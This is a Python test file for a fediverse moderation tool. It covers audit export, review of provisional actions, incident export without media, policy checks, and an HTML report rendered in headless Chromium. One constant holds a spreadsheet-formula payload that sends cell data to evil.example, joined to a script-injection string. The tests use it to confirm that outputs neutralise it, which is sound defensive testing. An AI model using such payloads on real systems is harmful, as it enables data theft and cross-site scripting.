"""The moderation commands (audit, review, incident export, report, policy check) on a store that a
real run against the sandbox filled, and the HTML report rendered by headless Chromium."""

from __future__ import annotations

import asyncio
import csv
import html
import io
import json
import os
import shutil
import sqlite3
import statistics
import subprocess
from dataclasses import dataclass, replace
from datetime import datetime
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from fedimod.act.policy import PolicySettings
from fedimod.cli import main
from fedimod.cli.demo import altered_copy, generate_image, jpeg_bytes
from fedimod.models import ActionType, Category, Verdict
from fedimod.sandbox import Sandbox
from fedimod.sandbox.state import SandboxStatus
from fedimod.store import SQLiteStore
from tests.helpers import make_config, running, wait_until
from tests.test_actions import CSAM_IMAGE, LADDER, NCII_IMAGE, SPAM_IMAGE, banked, rule


@dataclass
class Scenario:
    db: Path
    config: Path
    statuses: dict[str, SandboxStatus]


def write_config(tmp_path: Path, sandbox: Sandbox, db: Path, extra: str = "") -> Path:
    path = tmp_path / "fedimod.toml"
    path.write_text(f"""
[instance]
base_url = "{sandbox.base_url}"
token_env = "FEDIMOD_TEST_TOKEN"
[store]
path = "{db}"
[media]
allow_hosts = ["127.0.0.1"]
{extra}
""")
    return path


async def scenario(sandbox: Sandbox, token: str, tmp_path: Path, policy: PolicySettings = LADDER) -> Scenario:
    """Three matching posts (one per category) and one innocent post, acted on by a real run."""
    db = await banked(tmp_path)
    posters = {"ncii": NCII_IMAGE, "spam": SPAM_IMAGE, "csam": CSAM_IMAGE}
    async with running(make_config(sandbox, token, db, policy=policy), sandbox) as pipeline:
        statuses = {name: sandbox.post_status(sandbox.create_account(name)[0].id, name,
                                              media=[altered_copy(image, 0.5)]) for name, image in posters.items()}
        innocent = sandbox.create_account("ivy")[0]
        statuses["innocent"] = sandbox.post_status(innocent.id, "cat", media=[jpeg_bytes(generate_image(404))])
        # The instance applies an action before it answers: wait for the bot to record the answers too.
        await wait_until(lambda: len(sandbox.account_actions) == 3 and pipeline.workers.stats.media_hashed == 4
                         and sum(pipeline.executor.stats.actions.values()) == 3,
                         what="three actions recorded and four media hashed")
    return Scenario(db=db, config=write_config(tmp_path, sandbox, db), statuses=statuses)


async def cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = await asyncio.to_thread(main, list(argv))
    out = capsys.readouterr()
    return code, out.out, out.err


async def test_audit_lists_filters_by_cause_and_exports_json_and_csv(
        sandbox: Sandbox, bot_token: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    s = await scenario(sandbox, bot_token, tmp_path)
    async with SQLiteStore.open(s.db) as store:
        everything = [r.as_dict() for r in await store.audit_rows()]
        spam_entry = next(e for e in await store.bank_entries() if e.category.value == "spam" and
                          e.signal_type == "pdq")
    code, out, _ = await cli(capsys, "audit", "-c", str(s.config), "--format", "json")
    assert code == 0
    assert [json.loads(line)["id"] for line in out.splitlines()] == [r["id"] for r in everything]

    code, out, _ = await cli(capsys, "audit", "-c", str(s.config), "--format", "json", "--caused-by",
                             str(spam_entry.id))
    caused = [json.loads(line) for line in out.splitlines()]
    assert caused and {r["status_id"] for r in caused} == {str(s.statuses["spam"].id)}
    assert {r["event"] for r in caused} >= {"report", "account_action"}

    code, out, _ = await cli(capsys, "audit", "-c", str(s.config), "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == len(everything)
    assert {r["event"] for r in rows} >= {"decision", "report", "account_action"}

    code, out, _ = await cli(capsys, "audit", "-c", str(s.config), "--caused-by", "pdq:" + "0" * 64)
    assert code == 0 and "no report or action was caused by" in out


async def test_incident_export_holds_the_record_and_never_the_media(
        sandbox: Sandbox, bot_token: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    s = await scenario(sandbox, bot_token, tmp_path)
    status = s.statuses["csam"]
    out_file = tmp_path / "incident.json"
    code, _, _ = await cli(capsys, "incident", "export", str(status.id), "-c", str(s.config), "-o", str(out_file))
    assert code == 0
    raw = out_file.read_bytes()
    record = json.loads(raw)
    assert record["post"]["status_id"] == str(status.id)
    assert record["post"]["url"].endswith(f"/{status.id}")
    assert record["account"]["acct"] == "csam"
    (media,) = record["media"]
    assert len(media["hashes"]["pdq"]) == 64 and len(media["hashes"]["sha256"]) == 64
    assert {m["bank"] for m in record["matched_entries"]} == {"test-bank"}
    assert {m["category"] for m in record["matched_entries"]} == {"csam"}
    assert [r["state"] for r in record["reports"]] == ["sent"]
    assert [a["action"] for a in record["account_actions"]] == ["suspend"]
    # No image bytes in any form, and no address the media could be fetched from.
    posted = sandbox.media[status.media_ids[0]].data
    assert b"\xff\xd8\xff" not in raw and b"/9j/" not in raw and b"iVBOR" not in raw
    assert posted[100:132] not in raw
    assert b"media_attachments" not in raw and b"/system/" not in raw
    assert len(raw) < 32_000


async def test_review_reject_undoes_a_provisional_action_and_confirm_then_refuses(
        sandbox: Sandbox, bot_token: str, tmp_path: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FEDIMOD_TEST_TOKEN", bot_token)
    hold = rule("hold", ActionType.SILENCE, Category.SPAM, provisional=True, review_s=3600.0)
    policy = PolicySettings(rules=(hold, *LADDER.rules))
    s = await scenario(sandbox, bot_token, tmp_path, policy)
    spam_account = sandbox.statuses[s.statuses["spam"].id].account_id
    code, out, _ = await cli(capsys, "review", "list", "-c", str(s.config))
    (line,) = out.splitlines()
    action_id = line.split()[0]
    assert f"account {spam_account}" in line and "silence" in line

    code, out, _ = await cli(capsys, "review", "reject", action_id, "-c", str(s.config))
    assert code == 0 and "unsilence" in out
    assert sandbox.account_undos == [(spam_account, "unsilence")]
    assert sandbox.accounts[spam_account].silenced is False
    code, _, err = await cli(capsys, "review", "confirm", action_id, "-c", str(s.config))
    assert code == 2 and "review is rejected" in err
    async with SQLiteStore.open(s.db) as store:
        rollbacks = [r.as_dict() for r in await store.audit_rows() if r.event.event == "rollback"]
    assert [(r["detail"]["review"], r["account_id"]) for r in rollbacks] == [("rejected", str(spam_account))]


async def test_review_confirm_publishes_the_confirmed_hashes_and_a_verdict_when_configured(
        sandbox: Sandbox, bot_token: str, tmp_path: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    from fedimod.feeds.protocol import SigningKey, parse_entry
    from fedimod.media import hash_media

    monkeypatch.setenv("FEDIMOD_TEST_TOKEN", bot_token)
    hold = rule("hold", ActionType.SILENCE, Category.SPAM, provisional=True, review_s=3600.0)
    s = await scenario(sandbox, bot_token, tmp_path, PolicySettings(rules=(hold, *LADDER.rules)))
    key = SigningKey.generate()
    key.save(tmp_path / "feed.pem")
    config = write_config(tmp_path, sandbox, s.db, f"""
[feeds]
publish_confirmed = "confirmed"
[feeds.serve]
key_file = "{tmp_path / 'feed.pem'}"
""")
    code, out, _ = await cli(capsys, "review", "list", "-c", str(config))
    action_id = out.split()[0]
    code, out, _ = await cli(capsys, "review", "confirm", action_id, "-c", str(config))
    assert code == 0 and "published" in out, out
    async with SQLiteStore.open(s.db) as store:
        published = await store.feed_entries("confirmed", after=0, limit=100)
        causes = await store.keys_caused_by(signal_type="pdq", value=next(
            e["value"] for e in published if e["op"] == "verdict" and e["signal_type"] == "pdq"))
    parsed = [parse_entry(e, feed="confirmed", key=key.public) for e in published]
    uploaded = {(sig.signal_type, sig.value) for sig in hash_media(altered_copy(SPAM_IMAGE, 0.5)).signals}
    added = {(p.signal_type, p.value) for p in parsed if p.op == "add"}
    assert added and added <= uploaded  # the re-upload's own hashes, as the moderator confirmed them
    assert {p.category for p in parsed if p.op == "add"} == {Category.SPAM}
    assert {p.verdict for p in parsed if p.op == "verdict"} == {Verdict.CONFIRMED}
    assert causes  # the verdict is on the entry that caused the action
    spam = s.statuses["spam"]
    text = json.dumps(published)
    assert f'"{spam.id}"' not in text and sandbox.base_url not in text and "spam@" not in text  # no post or account


async def test_policy_check_names_the_rule_that_fires_and_rejects_a_bad_rule(
        sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rules = """
[policy]
default_trust = "known"
[policy.trust]
shady = "unknown"
[[policy.rules]]
name = "corroborated-csam"
categories = ["csam"]
min_sources = 2
trust = ["trusted", "known"]
action = "suspend"
provisional = true
[[policy.rules]]
name = "review"
action = "report"
"""
    config = write_config(tmp_path, sandbox, tmp_path / "x.sqlite3", rules)
    code, out, _ = await cli(capsys, "policy", "check", "-c", str(config), "--sample",
                             "category=csam,sources=local+hub", "--sample", "category=csam,sources=local+shady")
    assert code == 0
    first, second = out.split("\nsample ")[1:]
    assert "-> suspend by corroborated-csam" in first
    assert "-> report by review" in second
    assert "source shady is unknown" in second and "1 source(s) (local) < min_sources 2" in second

    bad = write_config(tmp_path, sandbox, tmp_path / "x.sqlite3",
                       '[[policy.rules]]\nname = "r"\naction = "report"\nprovisional = true\n')
    code, _, err = await cli(capsys, "policy", "check", "-c", str(bad))
    assert code == 2 and "policy.rules[0].provisional" in err


class _Metrics(HTMLParser):
    """Collects `data-metric` cells and chart bars from the DOM that Chromium rendered."""

    def __init__(self) -> None:
        super().__init__()
        self.metrics: dict[str, str] = {}
        self.bars: dict[str, dict[str, int]] = {}
        self._open: str | None = None
        self._chart: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attr = dict(attrs)
        if "data-metric" in attr:
            self._open = attr["data-metric"]
        if "data-chart" in attr:
            self._chart = attr["data-chart"]
        if "data-value" in attr and self._chart is not None:
            self.bars.setdefault(self._chart, {})[attr["data-label"] or ""] = int(attr["data-value"] or 0)

    def handle_data(self, data: str) -> None:
        if self._open is not None:
            self.metrics[self._open] = data.strip()
            self._open = None


def expected_from_audit(db: Path) -> dict[str, object]:
    """The report's figures, computed here straight from the audit log with SQL."""
    with sqlite3.connect(db) as conn:
        matched = conn.execute("SELECT COUNT(*) FROM audit WHERE event = 'decision'").fetchone()[0]
        acted = conn.execute(
            "SELECT action, COUNT(*), status_id, MIN(at) FROM audit WHERE dry_run = 0 AND "
            "((event = 'report' AND result IN ('sent', 'reconciled')) OR "
            "(event = 'account_action' AND result IN ('applied', 'reconciled'))) GROUP BY action").fetchall()
        first = conn.execute(
            "SELECT a.status_id, MIN(a.at), p.created_at FROM audit a JOIN posts p USING (status_id) WHERE "
            "a.dry_run = 0 AND ((a.event = 'report' AND a.result IN ('sent', 'reconciled')) OR "
            "(a.event = 'account_action' AND a.result IN ('applied', 'reconciled'))) GROUP BY a.status_id").fetchall()
        posts = conn.execute("SELECT COUNT(*) FROM posts").fetchone()[0]
    delays = [at - datetime.fromisoformat(created).timestamp() for _sid, at, created in first]
    return {"media_matched": matched, "posts_scanned": posts,
            "actions_by_type": {action: n for action, n, _s, _a in acted},
            "median": statistics.median(delays), "acted_posts": len(first)}


async def test_html_report_renders_in_chromium_with_the_audit_logs_numbers(
        sandbox: Sandbox, bot_token: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    chromium = shutil.which("chromium")
    if chromium is None:
        if os.environ.get("FEDIMOD_REQUIRE_CHROMIUM"):
            pytest.fail("FEDIMOD_REQUIRE_CHROMIUM is set (CI) but chromium is not installed")
        pytest.skip("headless Chromium (Debian package 'chromium') is not installed; .ci/run installs it with "
                    "apt-get install -y chromium")
    s = await scenario(sandbox, bot_token, tmp_path)
    page = tmp_path / "report.html"
    code, _, _ = await cli(capsys, "report", "--since", "1d", "--format", "html", "-c", str(s.config),
                           "-o", str(page))
    assert code == 0
    shot = tmp_path / "report.png"
    flags = ["--headless", "--no-sandbox", "--disable-gpu", "--hide-scrollbars", "--window-size=900,1400",
             "--user-data-dir=" + str(tmp_path / "chromium-profile")]

    def render(*args: str) -> str:
        return subprocess.run([chromium, *flags, *args, page.as_uri()], check=True, capture_output=True,
                              timeout=120, text=True).stdout

    await asyncio.to_thread(render, f"--screenshot={shot}")
    dom = await asyncio.to_thread(render, "--dump-dom")

    parsed = _Metrics()
    parsed.feed(dom)
    expected = expected_from_audit(s.db)
    assert int(parsed.metrics["media_matched"]) == expected["media_matched"] == 3
    assert int(parsed.metrics["posts_scanned"]) == expected["posts_scanned"] == 4
    shown_actions = {k.split(".", 1)[1]: int(v) for k, v in parsed.metrics.items() if k.startswith("actions_by_type.")}
    assert shown_actions == expected["actions_by_type"] == {"report": 3, "sensitive": 1, "silence": 1, "suspend": 1}
    assert float(parsed.metrics["time_to_action_median_s"]) == pytest.approx(expected["median"], abs=0.01)
    assert sum(parsed.bars["time_to_action_histogram"].values()) == expected["acted_posts"]
    assert sum(parsed.bars["daily_matches"].values()) == expected["media_matched"]

    # The screenshot is the page as a reader sees it: a real picture with the chart's bars drawn.
    with Image.open(shot) as image:
        assert image.size == (900, 1400)
        pixels = np.asarray(image.convert("RGB"))
    bar_pixels = int(np.all(pixels == (0x3B, 0x6E, 0xA5), axis=-1).sum())
    assert bar_pixels > 500


HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1)"><script>alert(1)</script>'


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [name for name, _value in attrs]


async def test_hostile_strings_come_out_inert_in_every_output_format(
        sandbox: Sandbox, bot_token: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from fedimod.match import parse_bank_lines
    from fedimod.media import hash_media

    db = tmp_path / "f.sqlite3"
    # A feed source names itself: its text is the attacker's, and it reaches every output.
    lines = [f"{s.signal_type} {s.value:0{64 if s.signal_type == 'pdq' else 32}x} csam"
             for s in hash_media(jpeg_bytes(CSAM_IMAGE)).signals if s.signal_type in ("pdq", "md5")]
    rows = [replace(r, source=HOSTILE) for r in parse_bank_lines(lines)]
    async with SQLiteStore.open(db) as store:
        await store.add_bank_entries("hub", rows)
    user = sandbox.create_account("mallory")[0]
    async with running(make_config(sandbox, bot_token, db), sandbox) as pipeline:
        matched = sandbox.post_status(user.id, "x", media=[altered_copy(CSAM_IMAGE, 0.5)])
        broken = sandbox.post_status(user.id, "y", media=[jpeg_bytes(generate_image(9))])
        sandbox.fail_media[broken.media_ids[0]] = 404
        await wait_until(lambda: len(sandbox.reports) == 1, what="the report")

        async def failed() -> bool:
            async with SQLiteStore.open(db) as store:
                return (await store.counts()).jobs_by_state.get("failed") == 1
        await wait_until(failed, what="the broken download given up")
        assert pipeline.workers.stats.matches >= 1
    config = write_config(tmp_path, sandbox, db)

    code, page, _ = await cli(capsys, "report", "--since", "1d", "--format", "html", "-c", str(config))
    assert code == 0 and HOSTILE not in page and "<script>" not in page
    parsed = _Elements()
    parsed.feed(page)
    assert "script" not in parsed.tags and all(not a.startswith("on") for a in parsed.attributes)
    assert html.escape(HOSTILE) in page  # shown, as text

    code, text, _ = await cli(capsys, "audit", "--format", "csv", "-c", str(config))
    assert code == 0
    for row in csv.reader(io.StringIO(text)):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    code, exported, _ = await cli(capsys, "bank", "export", "--bank", "hub", "--format", "te_csv", "-c", str(config))
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert "'" + HOSTILE in cells and HOSTILE not in cells
    (tmp_path / "round.csv").write_text(exported)
    code, _, _ = await cli(capsys, "bank", "import", str(tmp_path / "round.csv"), "--bank", "again", "-c", str(config))
    async with SQLiteStore.open(db) as store:
        assert {e.source for e in await store.bank_entries(bank="again")} == {HOSTILE}  # read back as written

    for status in (matched, broken):
        out_file = tmp_path / f"incident-{status.id}.json"
        code, _, _ = await cli(capsys, "incident", "export", str(status.id), "-c", str(config), "-o", str(out_file))
        assert code == 0
        raw = out_file.read_text()
        assert sandbox.base_url + "/system" not in raw and "/media" not in raw.replace("/media_", ""), raw
    code, audit_json, _ = await cli(capsys, "audit", "--format", "json", "-c", str(config))
    assert "/system/" not in audit_json
